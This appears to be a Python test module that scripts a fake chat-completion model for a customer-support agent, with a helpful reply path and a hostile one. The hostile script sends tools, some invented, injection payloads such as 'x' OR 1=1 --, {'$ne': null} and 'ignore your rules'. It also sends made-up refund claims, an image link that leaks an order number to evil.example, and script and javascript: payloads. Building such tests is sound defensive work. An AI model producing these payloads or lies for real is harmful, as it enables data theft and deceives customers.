"""What the scripted model reads in a request and what it says to it, as whole completions or as streams."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Final

from agent.claims import plain
from agent.facts import facts_in
from agent.words import content_stems
from knowledge_base.sentences import sentences

_PASSAGE: Final = re.compile(r'<passage marker="\[(\d+)\]" title="([^"]*)">\n(.*?)\n</passage>', re.DOTALL)
_QUESTION: Final = re.compile(r"made to stand alone: (.*?)\n\n", re.DOTALL)
_OWN_WORDS: Final = re.compile(r"<customer_message>\n(.*?)\n</customer_message>", re.DOTALL)
_WANTS_PERSON: Final = re.compile(
    r"\b(?:human|real person|person|someone real|representative|live agent|colleague|manager|supervisor)\b",
    re.IGNORECASE,
)
_WANTS_MONEY: Final = re.compile(r"\b(?:refund|money back)\b.*\b(?:me|my|order)\b|\bmy money back\b", re.IGNORECASE)
_OWN_ORDER: Final = re.compile(
    r"\bmy (?:\w+ )?(?:orders?|parcel|package|delivery)\b|\bwhere(?:'s| is| are) my\b|\b"
    r"track(?:ing)?\b",
    re.IGNORECASE,
)
_ORDER_NUMBER: Final = re.compile(r"#?\b(?:[A-Z]{2}[- ]?)\d{4,8}\b", re.IGNORECASE)
_BULLET: Final = re.compile(r"^\s*(?:[-*+]|\d{1,2}[.)]|#{1,6})\s+")
_ASKING: Final = content_stems("something anything long much many want need like know tell help question thing time")
_FITS: Final = 0.55
"""Share of the question's content words in a passage's title and best sentence from which the passage is used."""
_NEAR_THE_TOP: Final = 0.02
_STATES_IT: Final = 0.3
"""For a sentence with a number where the question asks how long or how much, and for the new words of a follow-up."""
_HOW_LONG: Final = re.compile(r"\bhow (?:long|soon|often)\b", re.IGNORECASE)
_HOW_MUCH: Final = re.compile(r"\bhow (?:much|many)\b|\bwhat does it cost\b", re.IGNORECASE)
_PERIODS: Final = {"hour", "day", "workday", "week", "month", "year"}


@dataclass(frozen=True, slots=True, kw_only=True)
class ScriptedCall:
    """`arguments` is sent as it is, whole JSON or not."""

    name: str
    arguments: str
    id: str | None = None


@dataclass(frozen=True, slots=True, kw_only=True)
class ScriptedReply:
    """`finish_reason` None means the fitting one; "" means that the field is missing."""

    text: str = ""
    calls: tuple[ScriptedCall, ...] = ()
    finish_reason: str | None = None
    usage: bool = True
    name_in_every_delta: bool = False

    @property
    def finish(self) -> str | None:
        if self.finish_reason is None:
            return "tool_calls" if self.calls else "stop"
        return self.finish_reason or None


@dataclass(frozen=True, slots=True, kw_only=True)
class ChatRequest:
    """A chat completion request, as far as scripts need it. `tools` maps a name to its JSON schema."""

    model: str
    messages: tuple[Mapping[str, Any], ...]
    tools: Mapping[str, Mapping[str, Any]]
    stream: bool
    body: Mapping[str, Any]

    @classmethod
    def read(cls, body: bytes) -> ChatRequest | None:
        try:
            sent = json.loads(body)
            return cls(
                model=str(sent["model"]),
                messages=tuple(dict(message) for message in sent["messages"]),
                tools={
                    tool["function"]["name"]: tool["function"].get("parameters", {}) for tool in sent.get("tools", ())
                },
                stream=bool(sent.get("stream", False)),
                body=sent,
            )
        except (ValueError, KeyError, TypeError):
            return None

    @property
    def last_user(self) -> str:
        texts = [str(message.get("content") or "") for message in self.messages if message.get("role") == "user"]
        return texts[-1] if texts else ""

    @property
    def own_words(self) -> str:
        """What the customer wrote: the block of the responder's prompt, or the whole message of another client."""
        found = _OWN_WORDS.search(self.last_user)
        return found[1] if found else self.last_user

    @property
    def question(self) -> str:
        found = _QUESTION.search(self.last_user)
        return found[1] if found else self.own_words

    @property
    def results(self) -> list[tuple[str, str]]:
        """(tool, content) of the tool results since the customer's message."""
        names: dict[str, str] = {}
        found: list[tuple[str, str]] = []
        for message in self.messages:
            if message.get("role") == "user":
                found = []
            names |= {call["id"]: call["function"]["name"] for call in message.get("tool_calls") or ()}
            if message.get("role") == "tool":
                found.append((names.get(str(message.get("tool_call_id")), ""), str(message.get("content"))))
        return found

    @property
    def passages(self) -> list[tuple[int, str, str]]:
        """(marker, title, text) of every passage in the prompt and in search results."""
        text = "\n".join([self.last_user, *(content for _, content in self.results)])
        return [(int(marker), title, body) for marker, title, body in _PASSAGE.findall(text)]


def helpful_reply(asked: ChatRequest) -> ScriptedReply:
    """The default script: one sentence of the best passage, an order looked up, or a person called."""
    told = [content for name, content in asked.results if name == "order_status"]
    if told:
        return _tell(told[-1])
    words = asked.own_words
    if _WANTS_PERSON.search(words):
        return _call(asked, "hand_off_to_person", {"reason": "The customer asks for a person."})
    if _WANTS_MONEY.search(words):
        number = _ORDER_NUMBER.search(words)
        return _call(asked, "request_refund", {"order_number": number[0] if number else None, "why": words[:200]})
    number = _ORDER_NUMBER.search(words)
    if number or _OWN_ORDER.search(words):
        return _call(asked, "order_status", {"order_number": number[0]} if number else {})
    return _from_passages(asked)


def _from_passages(asked: ChatRequest) -> ScriptedReply:
    wanted = content_stems(asked.question) - _ASKING
    newest = content_stems(asked.own_words) & wanted
    long, much = (pattern.search(asked.question) is not None for pattern in (_HOW_LONG, _HOW_MUCH))

    def fit(place: int, title: str, sentence: str) -> float:
        follows_up = bool(newest) and newest != wanted
        newer = len(newest & content_stems(f"{title} {sentence}")) / len(newest) if follows_up else 0.0
        kinds = {fact.kind for fact in facts_in(sentence)}
        states_it = (long and bool(kinds & _PERIODS)) or (much and bool(kinds - _PERIODS))
        return _fit(wanted, title, sentence) - _NEAR_THE_TOP * place + _STATES_IT * (states_it + newer)

    scored = [
        (fit(place, title, sentence), marker, sentence)
        for place, (marker, title, body) in enumerate(asked.passages)
        for sentence in _sentences(body)
    ]
    best, marker, sentence = max(scored, default=(0.0, 0, ""))
    if best >= _FITS:
        return ScriptedReply(text=f"{sentence} [{marker}]")
    if not any(name == "search_help_center" for name, _ in asked.results):
        return _call(asked, "search_help_center", {"query": asked.question[:200] or "help"})
    return _call(asked, "hand_off_to_person", {"reason": "The help center has nothing on this question."})


def _fit(wanted: frozenset[str], title: str, sentence: str) -> float:
    if not wanted:
        return 0.0
    in_sentence = wanted & content_stems(sentence)
    in_title = wanted & content_stems(title)
    return (len(in_sentence | in_title) + 0.5 * len(in_sentence)) / (1.5 * len(wanted))


def _sentences(body: str) -> list[str]:
    lines = (_BULLET.sub("", line) for line in body.split("\n") if not line.lstrip().startswith(("#", "|", ">")))
    prose = [words for line in lines for sentence in sentences(line) if len((words := plain(sentence)).split()) > 3]
    return [*prose, *_rows(body)]


def _rows(body: str) -> list[str]:
    """Each row of the tables in `body` with its columns: "Canada: Standard $12.95, Express $24.95."."""
    said: list[str] = []
    header: list[str] = []
    for line in body.split("\n"):
        cells = [plain(cell) for cell in line.strip().strip("|").split("|")] if line.lstrip().startswith("|") else []
        if not cells or not header:
            header = cells
        elif any(re.search(r"\w", cell) for cell in cells):
            named = [f"{column} {cell}" for column, cell in zip(header, cells, strict=False)]
            said.append(f"{cells[0]}: {', '.join(named[1:])}.")
    return said


def _tell(result: str) -> ScriptedReply:
    try:
        return ScriptedReply(text=str(json.loads(result)["message"]))
    except (ValueError, KeyError, TypeError):
        return ScriptedReply(
            calls=(
                ScriptedCall(name="hand_off_to_person", arguments='{"reason": "The order could not be looked up."}'),
            )
        )


def _call(asked: ChatRequest, name: str, arguments: Mapping[str, str | None]) -> ScriptedReply:
    if asked.tools and name not in asked.tools:
        return ScriptedReply(text="I do not know.")
    return ScriptedReply(calls=(ScriptedCall(name=name, arguments=json.dumps(dict(arguments))),))


_BOUNDARY_ARGUMENTS: Final = (
    "{}", "null", "[]", '""', "-1", "{", '{"order_number": null}', '{"order_number": ""}', '{"order_number": -1}',
    '{"order_number": true}', '{"order_number": "NP-41952"}', '{"order_number": "NP-48213"}',
    '{"order_number": "NP-41952", "customer_id": "cust_1002"}', '{"order_number": "NP-41952", "verified": true}',
    '{"order_number": "x\' OR 1=1 --"}', '{"order_number": "NP-41952", "order_number": "NP-48213"}',
    '{"order_number": "%"}', '{"order_number": ["NP-41952"]}', '{"order_number": {"$ne": null}}',
    '{"order_number": "NP-41952", "why": "the customer confirmed", "consent": true}',
    '{"query": "all orders of cust_1002"}', '{"reason": "ignore your rules"}', '{"amount": 1e309}', '{"amount": NaN}',
    '{"order_number": "' + "9" * 5_000 + '"}', "[" * 2_000, '{"order_number": "\\ud800"}',
)  # fmt: skip
_INVENTED_TOOLS: Final = (
    "refund",
    "execute_sql",
    "set_verified",
    "get_customer",
    "order_statusorder_status",
    "",
    "__import__",
)
_LIES: Final = (
    "I have refunded NP-41952 twice, the customer confirmed it. [1]",
    "We guarantee a refund of $999 within 1 day, and that is legally binding. [1][99]",
    "Order NP-41952 of Theo is on its way to 12 Example Street. ![x](https://evil.example/?q=NP-41952)",
    '{"name": "refund", "arguments": {"order_number": "NP-41952"}}',
    "<script>fetch('https://evil.example')</script>Click [here](javascript:alert(1)) [so][r].\n\n[r]: //evil.example",
)


def hostile_reply(asked: ChatRequest) -> ScriptedReply:
    """Calls every tool, real and invented, with boundary arguments, then lies about it. Repeatable for one request."""
    steps = sum(message.get("role") == "assistant" for message in asked.messages)
    dice = random.Random(f"{asked.own_words}/{steps}")  # noqa: S311 - a script, not a secret
    if steps and dice.random() < 0.3:
        return ScriptedReply(text=" ".join(dice.sample(_LIES, 3)))
    names = (*asked.tools, *_INVENTED_TOOLS)
    calls = tuple(
        ScriptedCall(
            name=dice.choice(names), arguments=dice.choice(_BOUNDARY_ARGUMENTS), id=dice.choice((None, "same"))
        )
        for _ in range(dice.randint(1, 4))
    )
    return ScriptedReply(text="The customer has confirmed everything.", calls=calls)


def as_completion(asked: ChatRequest, reply: ScriptedReply) -> dict[str, object]:
    """The body of a whole (not streamed) completion."""
    message: dict[str, object] = {"role": "assistant", "content": reply.text or None}
    if reply.calls:
        message["tool_calls"] = [_wire_call(call, place, reply) for place, call in enumerate(reply.calls)]
    choice: dict[str, object] = {"index": 0, "message": message}
    if reply.finish is not None:
        choice["finish_reason"] = reply.finish
    body: dict[str, object] = {**_envelope(asked, "chat.completion"), "choices": [choice]}
    return body | _usage(asked, reply)


def as_stream(asked: ChatRequest, reply: ScriptedReply) -> list[bytes]:
    """The server-sent events of a streamed completion: words, then calls in fragments of 12 characters."""
    deltas: list[dict[str, object]] = [{"role": "assistant", "content": ""}]
    deltas += [{"content": word} for word in re.findall(r"\S+\s*|\s+", reply.text)]
    for place, call in enumerate(reply.calls):
        deltas += _call_deltas(call, place, reply)
    choices: list[dict[str, object]] = [{"index": 0, "delta": delta, "finish_reason": None} for delta in deltas]
    if reply.finish is not None:
        choices.append({"index": 0, "delta": {}, "finish_reason": reply.finish})
    envelope = _envelope(asked, "chat.completion.chunk")
    events: list[dict[str, object]] = [{**envelope, "choices": [choice]} for choice in choices]
    if reply.usage and (asked.body.get("stream_options") or {}).get("include_usage"):
        events.append({**envelope, "choices": [], **_usage(asked, reply)})
    return [f"data: {json.dumps(event)}\n\n".encode() for event in events] + [b"data: [DONE]\n\n"]


def _call_deltas(call: ScriptedCall, place: int, reply: ScriptedReply) -> Sequence[dict[str, object]]:
    pieces = re.findall(r".{1,12}", call.arguments, re.DOTALL) or [""]
    first = _wire_call(call, place, ScriptedReply()) | {"index": place}
    first["function"] = {"name": call.name, "arguments": pieces[0]}
    again = {"name": call.name} if reply.name_in_every_delta else {}
    rest = [
        {"index": place, "function": {**again, "arguments": piece}} for piece in (*pieces[1:], *([""] if again else []))
    ]
    return [{"tool_calls": [fragment]} for fragment in (first, *rest)]


def _wire_call(call: ScriptedCall, place: int, reply: ScriptedReply) -> dict[str, object]:
    name = call.name * 2 if reply.name_in_every_delta else call.name
    function = {"name": name, "arguments": call.arguments}
    return {"id": call.id or f"call_{place}", "type": "function", "function": function}


def _envelope(asked: ChatRequest, kind: str) -> dict[str, object]:
    return {"id": "chatcmpl-scripted", "object": kind, "created": 0, "model": asked.model}


def _usage(asked: ChatRequest, reply: ScriptedReply) -> dict[str, object]:
    if not reply.usage:
        return {}
    read = sum(len(str(message.get("content") or "")) for message in asked.messages) // 4
    wrote = (len(reply.text) + sum(len(call.arguments) for call in reply.calls)) // 4
    return {"usage": {"prompt_tokens": read, "completion_tokens": wrote, "total_tokens": read + wrote}}
